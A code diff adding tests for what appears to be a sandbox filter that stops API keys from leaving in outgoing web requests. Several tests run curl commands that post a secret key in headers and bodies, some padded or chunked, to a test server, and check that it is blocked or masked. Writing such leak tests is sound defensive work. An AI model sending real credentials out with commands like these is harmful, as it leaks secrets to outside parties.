@@ -150,6 +150,14 @@ def test_a_redirect_does_not_take_it_along(sandbox, certificates, server):
     assert denial["rule"] == "builtin.secrets", denial
 
 
+def test_an_answer_does_not_bring_it_in(sandbox, certificates, server):
+    keep(sandbox)
+    done = sandbox.run(f"curl -sS --compressed https://web.test:{server.port}/echo-body -d mine",
+                       env=outside(certificates), policy=policy(sandbox, rule(server)))
+    assert "('x-api-key', '" + "*" * len(KEY) + "')" in done.out and done.out.endswith("mine"), done
+    assert "('accept-encoding', 'identity')" in done.out and KEY not in done.out
+
+
 def test_never_without_tls(sandbox, certificates, server):
     keep(sandbox)
     plain = Web()
@@ -187,6 +195,18 @@ def test_what_was_found_inside_does_not_leave(sandbox, certificates, server):
     assert [path for _, path, _, _ in server.seen] == ["/d"], done
     assert [(entry["detail"]["secret"], entry["detail"]["where"]) for entry in entries(sandbox, done, "alert")] == [
         ("model", "a header"), ("model", "the URL"), ("canary", "a header")]
+    post = "curl -sS --data-binary @body"
+    done = sandbox.run(f"printf 'x%.0s' {{1..70000}} >body; printf '%s' '{KEY}' >>body; {post} {url}/f; "
+                       f"{post} --http1.1 -H 'transfer-encoding: chunked' {url}/g; "
+                       f"printf '%s' $MODEL_KEY >body; {post} {url}/h", env=outside(certificates),
+                       policy=policy(sandbox, rule(server)))
+    assert done.out.count("carries a secret out") == 2 and done.out.endswith("ok\n"), done
+    # A server may see that a request began: without the secret, and never whole.
+    assert not [body for _, _, _, body in server.seen if b"sk-ant-api03-Zk3v" in body], done
+    assert [entry["detail"]["where"] for entry in entries(sandbox, done, "alert")] == ["the body"] * 2
+    done = sandbox.run(f"printf 'a {KEY} b' >body; {post} {url}/i", env=outside(certificates),
+                       policy=policy(sandbox, rule(server), more="data: {outgoing: mask}\n"))
+    assert server.seen[-1][3] == b"a " + b"*" * len(KEY) + b" b" and len(entries(sandbox, done, "alert")) == 1, done
     done = sandbox.run(f"curl -sS -H 'x-mine: {KEY}' {url}/e", env=outside(certificates),
                        policy=policy(sandbox, rule(server), more="data: {outgoing: flag}\n"))
     assert server.seen[-1][2]["x-mine"] == KEY and len(entries(sandbox, done, "alert")) == 1, done
